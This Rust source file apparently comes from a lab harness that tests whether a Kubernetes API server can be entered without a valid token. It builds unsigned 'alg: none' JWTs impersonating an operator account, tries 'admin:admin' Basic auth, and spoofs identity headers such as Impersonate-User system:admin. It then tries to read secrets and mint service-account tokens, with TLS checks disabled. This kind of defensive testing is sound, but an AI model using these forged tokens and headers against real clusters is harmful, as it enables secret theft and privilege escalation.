//! The API server, asked as bytes of HTTP by whoever: with any path, any header and any token.

use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use base64::Engine as _;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use kube::client::Body;
use kube::{Client, Config};
use serde_json::{Value, json};
use tallyman_crds::names::host_identity;
use tallyman_lab::command::Tool;

use crate::attack::Haul;
use crate::attack::scene::{ELSEWHERE, Scene};
use crate::attack::thief::of_host;

const PATIENCE: Duration = Duration::from_secs(10);

/// A request to the API server, as [`relay`] reads it.
pub(super) fn request(method: &str, path: &str) -> Value {
    json!({ "method": method, "path": path, "headers": {}, "body": "" })
}

pub(super) fn with(mut request: Value, header: &str, value: &str) -> Value {
    request["headers"][header] = json!(value);
    request
}

pub(super) fn sending(request: Value, content: &str, body: &Value) -> Value {
    let mut request = with(request, "Content-Type", content);
    request["body"] = json!(body.to_string());
    request
}

pub(super) const JSON: &str = "application/json";
pub(super) const MERGE: &str = "application/merge-patch+json";

/// Sends requests, a JSON list, to the API server at `server`, as whoever they say, and returns their answers, `[code, text]` each; code 0
/// is none.
///
/// # Errors
/// `server` or `requests` cannot be read.
pub fn relay(server: &str, requests: &str) -> Result<String> {
    let requests: Vec<Value> = serde_json::from_str(requests)?;
    let answers = send_all(server, &requests)?;
    Ok(serde_json::to_string(&answers)?)
}

pub(super) fn send_all(server: &str, requests: &[Value]) -> Result<Vec<(u16, String)>> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        let mut config = Config::new(server.parse()?);
        // What is told to whoever is in between is another matter.
        config.accept_invalid_certs = true;
        config.connect_timeout = Some(PATIENCE);
        let client = Client::try_from(config)?;
        let mut answers = Vec::new();
        for one in requests {
            let answer = tokio::time::timeout(PATIENCE, send(&client, one)).await;
            answers.push(match answer {
                Ok(Ok(answer)) => answer,
                Ok(Err(error)) => (0, format!("{error:#}")),
                Err(_) => (0, "no answer in time".to_owned()),
            });
        }
        Ok(answers)
    })
}

async fn send(client: &Client, one: &Value) -> Result<(u16, String)> {
    let text = |field: &str| one[field].as_str().unwrap_or_default();
    let mut request = http::Request::builder()
        .method(text("method"))
        .uri(text("path"));
    for (name, value) in one["headers"].as_object().into_iter().flatten() {
        request = request.header(name, value.as_str().unwrap_or_default());
    }
    let body = Body::from(text("body").as_bytes().to_vec());
    let answer = client.send(request.body(body)?).await?;
    let code = answer.status().as_u16();
    let body = answer.into_body().collect_bytes().await?;
    Ok((code, String::from_utf8_lossy(&body).into_owned()))
}

/// Notes an answer, and what was got by it.
pub(super) fn judge(
    scene: &Scene<'_>,
    haul: &mut Haul,
    request: &Value,
    answer: &(u16, String),
    permitted: bool,
) {
    let (code, text) = answer;
    let what = |field: &str| request[field].as_str().unwrap_or_default();
    let tried = format!("`{} {}`", what("method"), what("path"));
    haul.note(match code {
        0 => "no answer".to_owned(),
        code => code.to_string(),
    });
    if let Some(canary) = scene.found(text) {
        haul.got(format!("{canary} by {tried}"));
    }
    if (100..400).contains(code) && !permitted {
        let text: String = text.chars().take(300).collect();
        haul.got(format!("{code} by {tried} {}: {text}", request["headers"]));
    }
}

/// What the API server answers who has no token of it, from a place that `enter` leads to.
///
/// # Errors
/// It cannot be asked.
pub fn without(scene: &Scene<'_>, haul: &mut Haul, enter: &dyn Fn(&str) -> Tool) -> Result<()> {
    let own = of_host(scene.vault.host)?;
    let (head, _) = own.rsplit_once('.').context("no token")?;
    let (_, own_claims) = head.split_once('.').context("no token")?;
    let admin = claims("system:serviceaccount:tallyman-system:tallyman-operator");
    let mut who: Vec<Vec<(&str, String)>> = vec![Vec::new()];
    for token in [
        "x".to_owned(),
        format!("{head}."),
        format!("{head}.{}", "A".repeat(342)),
        unsigned(own_claims),
        unsigned(&admin),
    ] {
        who.push(vec![("Authorization", format!("Bearer {token}"))]);
    }
    who.push(vec![("Authorization", "Basic YWRtaW46YWRtaW4=".to_owned())]);
    for (name, value) in SOMEBODY {
        who.push(vec![(name, (*value).to_owned())]);
    }
    let mut requests = Vec::new();
    for headers in who {
        for mut one in wanted(scene) {
            for (name, value) in &headers {
                one = with(one, name, value);
            }
            requests.push(one);
        }
    }
    let server = scene.user.lab.control_plane().server_for_hosts();
    let program = super::program()?;
    let answers = enter(&program.display().to_string())
        .args(["--relay", server])
        .stdin(serde_json::to_string(&requests)?)
        .check()?;
    let answers: Vec<(u16, String)> = serde_json::from_str(&answers)?;
    ensure!(answers.len() == requests.len(), "answers are missing");
    // Who is not answered at all has shown nothing: the API server is reached from all these places.
    ensure!(answers.iter().any(|(code, _)| *code == 403), "{answers:?}");
    for (request, answer) in requests.iter().zip(&answers) {
        judge(scene, haul, request, answer, false);
    }
    Ok(())
}

/// The claims of a token of an account, as one would make them up.
pub fn claims(account: &str) -> String {
    let claims = json!({
        "iss": "https://kubernetes.default.svc", "aud": ["https://kubernetes.default.svc"],
        "iat": 1_700_000_000_u64, "exp": 4_102_444_800_u64, "sub": account,
    });
    BASE64_URL_SAFE_NO_PAD.encode(claims.to_string())
}

/// A token with these claims that says it needs no signature.
pub fn unsigned(claims: &str) -> String {
    let head = BASE64_URL_SAFE_NO_PAD.encode(r#"{"alg":"none","typ":"JWT"}"#);
    format!("{head}.{claims}.")
}

/// Headers by which somebody is somebody else, where they are believed.
pub(super) const SOMEBODY: &[(&str, &str)] = &[
    ("Impersonate-User", "system:admin"),
    ("X-Remote-User", "system:admin"),
    ("X-Remote-Group", "system:masters"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-User", "system:admin"),
    (
        "X-Forwarded-Client-Cert",
        "Subject=\"CN=system:admin,O=system:masters\"",
    ),
    ("X-Client-Cert", "CN=system:admin,O=system:masters"),
    ("X-Original-URL", "/api/v1/secrets"),
];

/// What everybody would like to read.
pub(super) fn wanted(scene: &Scene<'_>) -> Vec<Value> {
    let namespace = scene.user.namespace();
    let host = scene.vault.host.name();
    let identity = host_identity(host);
    let (elsewhere, secret) = ELSEWHERE;
    let ours = format!("/apis/tallyman.dev/v1alpha1/namespaces/{namespace}");
    let mut all: Vec<Value> = [
        format!("/api/v1/namespaces/{namespace}/secrets"),
        format!("/api/v1/namespaces/{namespace}/secrets/{identity}"),
        format!("/api/v1/namespaces/{elsewhere}/secrets/{secret}"),
        format!("{ours}/tasks"),
        format!("{ours}/hostplans/{host}"),
        format!("{ours}/hostjoins"),
        "/metrics".to_owned(),
        "/debug/pprof/".to_owned(),
    ]
    .iter()
    .map(|path| request("GET", path))
    .collect();
    let token = format!("/api/v1/namespaces/{namespace}/serviceaccounts/{identity}/token");
    all.push(sending(
        request("POST", &token),
        JSON,
        &token_request(600, Some(&identity)),
    ));
    all
}

pub(super) fn token_request(seconds: i64, bound: Option<&str>) -> Value {
    json!({ "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {
        "expirationSeconds": seconds,
        "boundObjectRef": bound.map(|name| json!({ "kind": "Secret", "apiVersion": "v1", "name": name })),
    }})
}
